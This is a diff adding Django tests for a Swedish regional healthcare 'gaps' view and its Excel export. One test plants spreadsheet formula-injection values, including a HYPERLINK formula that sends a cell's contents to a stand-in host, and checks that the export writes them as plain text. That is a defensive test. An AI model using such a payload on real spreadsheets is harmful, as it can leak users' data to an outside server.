@@ -116,3 +116,69 @@ def test_gap_page(client, users, org, measure, situation, monkeypatch):
     assert client.get(reverse("improvement:gaps"), {"ar": "tjugo"}).status_code == 422
     # Without parameters: the user's region, this year.
     assert client.get(reverse("improvement:gaps")).status_code == 200
+
+
+def test_the_gap_view_opens_on_the_latest_year_with_data_and_counts_every_level(client, users, org, measure, falls):
+    """Item 11: not the calendar year (no data: a green 'no gaps'), and the region's own row and
+    the enheter's overdue actions are counted."""
+    from lagesbild.measurements.models import Observation
+
+    for month in (3, 11):
+        Observation.objects.create(measure=measure, org_unit=org.avd, period_start=date(2024, month, 1),
+                                   granularity="month", numerator=3, denominator=4)
+    s = Actor(users.strategist)
+    regional = services.record_analysis(falls, org.region, Period.parse("2024"), "Regionens analys.", actor=s)
+    for title in ("Regional rutin", "Regional utbildning"):
+        services.add_action(regional, title, "Chefläkare", date(2024, 6, 30), actor=s)
+    ward = services.record_analysis(falls, org.avd, Period.parse("2024"), "Avdelningens analys.", actor=s)
+    services.add_action(ward, "Avdelningens rond", "Chef", date(2024, 6, 30), actor=s)
+
+    client.force_login(users.strategist)
+    r = client.get(reverse("improvement:gaps"))
+    assert r.status_code == 200
+    page = text(r)
+    assert "Luckor i förbättringsarbetet – Region Kalmar län 2024</h1>" in page
+    assert 'name="period" value="2024"' in page and 'name="ar" value="2024"' in page
+    region_row = re.search(r'<tr id="enhet-08" class="gap">(.*?)</tr>', page).group(1)
+    assert "Regionen saknar handlingsplan för 2024." in region_row
+    assert 'href="/forbattring/forsenade/?enhet=08&amp;endast=1"><span class="badge overdue">2</span>' in region_row
+    # Every level: the region's two and the ward's one (enheter are not listed by default).
+    assert "3 försenade åtgärder</a> i regionen, alla nivåer." in page
+    # An explicit year or period still wins.
+    assert "Region Kalmar län 2025</h1>" in text(client.get(reverse("improvement:gaps"), {"ar": "2025"}))
+    assert "Region Kalmar län 2023</h1>" in text(client.get(reverse("improvement:gaps"), {"period": "2023-Q2"}))
+
+
+def test_without_any_data_the_gap_view_opens_on_this_year(client, users, org):
+    client.force_login(users.strategist)
+    page = text(client.get(reverse("improvement:gaps")))
+    assert f"Region Kalmar län {date.today().year}</h1>" in page
+
+
+def test_gap_export_reads_the_page_rows_and_writes_user_text_as_text(client, users, org, measure, situation,
+                                                                     monkeypatch):
+    import io
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://example.org/?m="&A1,"Öppna")'
+    OrgUnit.objects.filter(code="08-F2").update(name=formula)
+    measure.title = "@SUM(1+1)"
+    measure.save()
+    monkeypatch.setattr(measured, "default_off_target", lambda: situation)
+    client.force_login(users.strategist)
+    params = {"enhet": "08", "ar": "2025", "period": "2025"}
+    page = text(client.get(reverse("improvement:gaps"), params))
+    r = client.get(reverse("improvement:gaps"), {**params, "format": "xlsx"})
+    assert r.status_code == 200
+    rows = list(load_workbook(io.BytesIO(r.content)).active.iter_rows())
+    header = next(i for i, row in enumerate(rows) if row[0].value == "Enhet")
+    assert [c.value for c in rows[header]] == ["Enhet", "Typ", "Handlingsplan saknas", "Plan",
+                                               "Mått ej uppnått utan analys", "Försenade åtgärder"]
+    body = {row[0].value: row for row in rows[header + 1:]}
+    assert list(body) == ["Region Kalmar län", "Hälso- och sjukvårdsförvaltningen", "Kirurgkliniken",
+                          "Medicinkliniken", formula, "Allmäntandvården"]
+    assert (body[formula][0].data_type, body[formula][2].value) == ("s", "ja")
+    kir = body["Kirurgkliniken"]
+    assert (kir[4].value, kir[4].data_type, kir[5].value) == ("@SUM(1+1); Fallskador per 1 000 vårddagar", "s", 1)
+    assert "3 av 6 enheter har minst en lucka" in page and "@SUM(1+1)" in page
